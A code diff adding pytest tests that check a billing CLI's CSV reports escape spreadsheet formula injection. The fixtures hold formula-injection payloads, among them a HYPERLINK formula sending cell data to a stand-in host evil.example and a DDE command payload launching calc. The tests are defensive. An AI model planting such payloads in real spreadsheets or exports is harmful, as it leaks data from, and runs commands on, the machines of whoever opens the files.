@@ -6,6 +6,8 @@ and peak memory under 500 MB (``ru_maxrss`` of the child, from ``os.wait4``)."""
 
 from __future__ import annotations
 
+import csv
+import io
 import os
 import signal
 import subprocess
@@ -14,12 +16,17 @@ import threading
 import time
 from collections.abc import Callable
 from dataclasses import dataclass, field
+from decimal import Decimal
 from pathlib import Path
 
+import polars as pl
 import pytest
 
 from revcli.data.validate import load_dataset
 from revcli.data.yamlio import compose
+from revcli.output.formulas import spreadsheet_safe
+from revcli.output.render import render_csv
+from revcli.output.report import ColumnKind, Report
 from revcli.scaffold import FILES, scaffold
 from revcli.templating import TemplateError, load_template
 from tests.conftest import MakeDir, Run
@@ -505,3 +512,85 @@ def test_a_password_in_the_settings_is_an_error(tmp_path: Path, run: Run) -> Non
         "that variable in reminders.smtp.password_env\n"
     )
     assert "hunter2" not in result.output
+
+
+# --- CSV output safe to open in a spreadsheet -------------------------------------------------
+
+EVIL_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+EVIL_CUSTOMERS = (
+    "customer_id,name,country,segment,region,owner,billing_email\n"
+    'CUST-001,"=HYPERLINK(""http://evil.example/?""&A1,""Click"")",NO,@SUM(1+1),-2+3,'
+    "kari@example.no,faktura@nordlys.example\n"
+)
+
+
+@pytest.mark.parametrize(
+    ("text", "expected"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(1+1)", "'@SUM(1+1)"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        ("Acme AS", "Acme AS"),
+        ("a=b", "a=b"),
+        ("", ""),
+    ],
+)
+def test_spreadsheet_safe(text: str, expected: str) -> None:
+    assert spreadsheet_safe(text) == expected
+
+
+def test_csv_escapes_text_cells_only() -> None:
+    frame = pl.DataFrame(
+        {
+            "name": ["=1+1", "Acme"],
+            "note": ["-x", None],
+            "amount": [Decimal("-12.50"), Decimal("3.00")],
+            "count": [-3, 4],
+        }
+    )
+    report = Report(
+        "t", frame, kinds={"amount": ColumnKind.SIGNED_MONEY, "count": ColumnKind.COUNT}
+    )
+    # Text starting like a formula gets a '; numbers (even negative) stay numbers.
+    assert render_csv(report) == "name,note,amount,count\n'=1+1,'-x,-12.50,-3\nAcme,,3.00,4\n"
+    assert (
+        render_csv(report, raw=True) == "name,note,amount,count\n=1+1,-x,-12.50,-3\nAcme,,3.00,4\n"
+    )
+
+
+def _csv(text: str) -> list[dict[str, str]]:
+    return list(csv.DictReader(io.StringIO(text)))
+
+
+def test_reports_in_csv_escape_formula_text(tmp_path: Path, run: Run) -> None:
+    root = build(tmp_path / "data", Case(files={"customers.csv": EVIL_CUSTOMERS}))
+    d = ("--data", root)
+    mrr = _csv(run("mrr", *d, "--month", "2026-03", "--by", "name", "-f", "csv").stdout)
+    assert mrr[0]["name"] == "'" + EVIL_NAME and mrr[0]["mrr"] == "4900.00"
+    region = _csv(run("mrr", *d, "--month", "2026-03", "--by", "region", "-f", "csv").stdout)
+    assert region[0]["region"] == "'-2+3"
+    renewals = _csv(
+        run("renewals", *d, "--as-of", "2026-10-01", "--within", "1y", "-f", "csv").stdout
+    )
+    assert renewals[0]["customer_name"] == "'" + EVIL_NAME
+    risk = _csv(run("risk", *d, "--as-of", "2026-10-01", "-f", "csv").stdout)
+    assert risk[0]["customer_name"] == "'" + EVIL_NAME
+    assert run("invoice", "issue", *d, "--period", "2026-01", "-f", "md").exit_code == 0
+    credited = run(
+        "invoice", "credit", "2026-00001", *d, "--reason", "x", "-f", "md", "--date", "2026-01-20"
+    )
+    assert credited.exit_code == 0, credited.output
+    listed = _csv(run("invoice", "list", *d, "-f", "csv").stdout)
+    assert [r["customer_name"] for r in listed] == ["'" + EVIL_NAME] * 2
+    # 10 seats × 490 × 12 + 15,000 onboarding = 73,800 net; the credit note is its negative.
+    assert [r["net"] for r in listed] == ["73800.00", "-73800.00"]
+    journal = _csv(run("invoice", "export", *d, "-f", "csv").stdout)
+    assert [(r["customer_name"], r["gross"]) for r in journal] == [
+        ("'" + EVIL_NAME, "92250.00"),
+        ("'" + EVIL_NAME, "-92250.00"),
+    ]
+    raw = _csv(run("--raw-csv", "invoice", "list", *d, "-f", "csv").stdout)
+    assert raw[0]["customer_name"] == EVIL_NAME
